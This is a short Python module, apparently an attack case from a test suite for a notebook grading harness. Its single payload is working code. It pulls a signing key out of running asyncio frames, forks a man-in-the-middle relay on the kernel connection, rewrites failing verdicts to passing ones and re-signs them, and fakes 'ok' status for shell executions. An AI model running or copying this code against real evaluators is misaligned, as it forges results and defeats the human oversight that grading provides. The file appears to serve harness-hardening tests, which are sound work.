"""The notebook goes on in a fork; its parent sits on the connection, and seals verdicts anew with the key."""

from ...control import REACH, unseen

ASSIGNMENT = "01_cloud_choices"
OWN = [
    unseen(
        REACH
        + """
import json, socket
loop = asyncio.get_running_loop()
ours = notebook["get_ipython"]().kernel.session.connection
key, seal = b"", None
for task in asyncio.all_tasks():
    frame = task.get_coro().cr_frame
    for value in (frame.f_locals if frame else {}).values():
        if type(getattr(value, "key", None)) is bytes:
            key = value.key
for inside in insides().values():
    seal = inside.get("seal", seal)
waiting = loop._selector.get_key(ours.fileno()).data[0]
callback, arguments = waiting._callback, waiting._args
outside = socket.socket(fileno=os.dup(ours.fileno()))
relay, kernels = socket.socketpair()
if os.fork():
    kernels.close()

    def exactly(connection, size):
        parts = b""
        while len(parts) < size:
            part = connection.recv(size - len(parts))
            if not part:
                os._exit(0)
            parts += part
        return parts

    def turned(body):
        try:
            frame = json.loads(body)
        except ValueError:
            return body
        if str(frame.get("ruling", "")).startswith("verdict"):
            ruling = frame["ruling"].replace(" False ", " True ")
            frame |= {"ruling": ruling, "seal": seal(key, ruling.encode()).hex()}
        elif frame.get("channel") == "shell":
            frame["content"] = {"status": "ok", "execution_count": 1}
        return json.dumps(frame).encode()

    import select
    while True:
        for connection in select.select([outside, relay], [], [])[0]:
            size = exactly(connection, 4)
            body = exactly(connection, int.from_bytes(size, "big"))
            if connection is relay:
                body = turned(body)
            other = relay if connection is outside else outside
            other.sendall(len(body).to_bytes(4, "big") + body)
relay.close()
outside.close()
loop.remove_reader(ours.fileno())
os.dup2(kernels.fileno(), ours.fileno())
loop.add_reader(ours.fileno(), callback, *arguments)
"""
    )
]
